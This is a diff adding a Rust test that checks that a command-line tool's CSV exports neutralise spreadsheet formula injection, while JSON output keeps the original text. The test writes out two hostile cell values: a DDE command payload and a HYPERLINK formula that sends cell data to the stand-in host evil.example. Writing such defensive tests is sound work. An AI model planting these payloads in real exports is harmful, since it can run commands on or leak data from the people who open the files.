@@ -211,3 +211,29 @@ fn totals_beyond_64_bits_are_exact_not_saturated() {
     assert_eq!(at, card);
     assert!(env.ok(&["verify"]).starts_with("verified"));
 }
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised() {
+    let env = common::Env::founded();
+    let area = "=cmd|' /C calc'!A0";
+    env.ok(&["--key", "dns.key", "area", "add", "ML-9", "--name", area, "--level", "region", "--parent", "ML"]);
+    let title = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
+    let id = env.ok(&common::pledge_with("psi.key", &[("--title", title), ("--area", "ML-9")]));
+    let csv_of = |args: &[&str]| -> Vec<String> {
+        let text = env.ok(args);
+        csv::Reader::from_reader(text.as_bytes())
+            .records()
+            .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
+            .collect()
+    };
+    let status = csv_of(&["status", "--format", "csv"]);
+    assert!(status.contains(&format!("'{title}")), "{status:?}");
+    assert!(!status.iter().any(|c| c.starts_with('=')), "{status:?}");
+    let coverage = csv_of(&["coverage", "--format", "csv"]);
+    assert!(coverage.contains(&format!("'{area}")), "{coverage:?}");
+    let log = csv_of(&["log", "--format", "csv"]);
+    assert!(!log.iter().any(|c| c.starts_with('=')), "{log:?}");
+    // JSON and the table say what was signed, unchanged.
+    let json = env.ok(&["show", &id, "--format", "json"]);
+    assert!(json.contains(r#""title":"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")""#), "{json}");
+}
